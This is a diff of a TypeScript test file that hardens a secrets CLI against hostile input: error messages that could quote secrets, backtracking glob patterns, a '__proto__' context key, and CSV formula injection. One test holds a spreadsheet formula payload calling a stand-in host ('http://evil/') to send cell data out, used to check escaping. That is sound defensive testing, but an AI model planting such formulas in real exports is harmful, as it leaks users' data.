@@ -1,6 +1,10 @@
 /**
- * Regression tests for an adversarial review (SECURITY.md, "Attacks refused"): each case failed
- * on the code before the fix. In-process CLI runs against real SQLite and local KMS files.
+ * Hardening against hostile input and environments (SECURITY.md, "Attacks refused"): import files
+ * that could mean something other than they show or whose errors would quote them, terminal
+ * controls in store- or file-derived text, secret names that set loader variables, output files
+ * swapped under the writer, data directories that are not the user's, passphrase downgrades,
+ * `kms serve` requests, spreadsheet formulas, glob patterns built to backtrack, and an
+ * encryption-context key `__proto__`. In-process CLI runs against real SQLite and local KMS files.
  */
 import Database from 'better-sqlite3';
 import { chmodSync, chownSync, closeSync, existsSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
@@ -13,7 +17,9 @@ import { Sha256 } from '@aws-crypto/sha256-js';
 import { DescribeKeyCommand, KMSClient } from '@aws-sdk/client-kms';
 import { SignatureV4 } from '@smithy/signature-v4';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseContext } from '../../src/cli/arg-parsers.js';
 import { isLoopbackHost } from '../../src/cli/kms-serve.js';
+import { expandWildcard, globToRegExp, matchesGlob } from '../../src/core/wildcard.js';
 import { LocalKms } from '../../src/localkms/local-kms.js';
 import { startKmsServer, type KmsServer } from '../../src/kmsserver/server.js';
 import { oneLine } from '../../src/format/one-line.js';
@@ -63,6 +69,38 @@ describe('YAML import refuses what could mean something other than it shows', ()
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/(line 2: )?not valid JSON \((unexpected character|unexpected input at position \d+)\); nothing was imported/);
     expect(r.stderr).not.toContain(SECRET.slice(0, 4));
+  });
+});
+
+describe('JSON import errors never quote the file', () => {
+  // V8's JSON.parse messages quote the input around the bad token: a malformed import file must
+  // not have its text (secret values) in the error, with or without --debug.
+  const MARK = 'hunter2-SECRET-MARKER';
+  const cli = inProcessHome();
+  afterAll(cli.cleanup);
+
+  it.each([
+    ['unquoted value', `{"db.pw": ${MARK}}`],
+    ['unquoted value after a good pair', `{"a": "1",\n "db.pw": ${MARK}x}`],
+    ['a bare word', MARK],
+  ])('import of JSON with %s: exit 2, no value on stderr (also with --debug)', async (_label, text) => {
+    const file = join(cli.dir, 'bad.json');
+    writeFileSync(file, text);
+    for (const args of [['import', file], ['--debug', 'import', file], ['putall', `@${file}`]]) {
+      const r = await cli.run(args);
+      expect(r.code).toBe(2);
+      expect(r.stdout).toBe('');
+      expect(r.stderr).toMatch(/not valid JSON/);
+      expect(r.stderr).not.toContain('hunter2');
+    }
+  });
+
+  it('keeps position-only JSON messages (they quote nothing)', async () => {
+    const file = join(cli.dir, 'cut.json');
+    writeFileSync(file, '{"a": "1",');
+    const r = await cli.run(['import', file]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/not valid JSON \(.*position \d+.*\); nothing was imported/);
   });
 });
 
@@ -465,5 +503,55 @@ describe('export -f csv --csv-safe', () => {
     expect((await h.run(['export', 'sheet.*', '-f', 'csv', '--csv-safe'])).stdout).toBe(`sheet.cell,"'=WEBSERVICE(""http://evil/""&A1)"\n`);
     expect((await h.run(['getall', '-f', 'csv', '--csv-safe'])).stdout).toContain(`"'=WEBSERVICE(`);
     expect((await h.run(['export', 'sheet.*', '-f', 'csv'])).stdout).toBe(`sheet.cell,"=WEBSERVICE(""http://evil/""&A1)"\n`);
+  });
+});
+
+describe('glob matching does not backtrack', () => {
+  it('matches a many-star pattern against a long name in linear-ish time', () => {
+    const name = 'a'.repeat(1000);
+    const started = performance.now();
+    expect(expandWildcard(`${'*a'.repeat(8)}*b`, [name])).toEqual([]);
+    expect(expandWildcard(`${'*a'.repeat(8)}*`, [name])).toEqual([name]);
+    expect(performance.now() - started).toBeLessThan(1000);
+  });
+
+  it('agrees with the regular-expression reading of a glob', () => {
+    const alphabet = ['a', 'b', '.', '*', '\n', '[', '\u00e9'];
+    let seed = 7;
+    const pick = (n: number): string => {
+      let s = '';
+      for (let i = 0; i < n; i++) {
+        seed = (seed * 1103515245 + 12345) % 2 ** 31;
+        s += alphabet[seed % alphabet.length];
+      }
+      return s;
+    };
+    for (let i = 0; i < 3000; i++) {
+      const pattern = pick(i % 7);
+      const name = pick(i % 9).replaceAll('*', '');
+      expect(matchesGlob(pattern, name), `${JSON.stringify(pattern)} vs ${JSON.stringify(name)}`).toBe(globToRegExp(pattern).test(name));
+    }
+  });
+});
+
+describe("encryption context key '__proto__'", () => {
+  // An object assignment would silently drop it, storing the secret without its context.
+  const cli = inProcessHome();
+  afterAll(cli.cleanup);
+
+  it('is kept as an ordinary pair', () => {
+    const context = parseContext(['__proto__=z', 'env=prod']);
+    expect(Object.entries(context)).toEqual([['__proto__', 'z'], ['env', 'prod']]);
+    expect(Object.getPrototypeOf(context)).toBe(Object.prototype);
+  });
+
+  it('binds the stored value: reading without it fails, with it succeeds', async () => {
+    expect((await cli.run(['put', 'proto.ctx', 'v1', '__proto__=z'])).code).toBe(0);
+    const without = await cli.run(['get', 'proto.ctx']);
+    expect(without.code).toBe(6);
+    expect(without.stdout).toBe('');
+    const withIt = await cli.run(['get', 'proto.ctx', '__proto__=z']);
+    expect(withIt.code).toBe(0);
+    expect(withIt.stdout).toBe('v1\n');
   });
 });
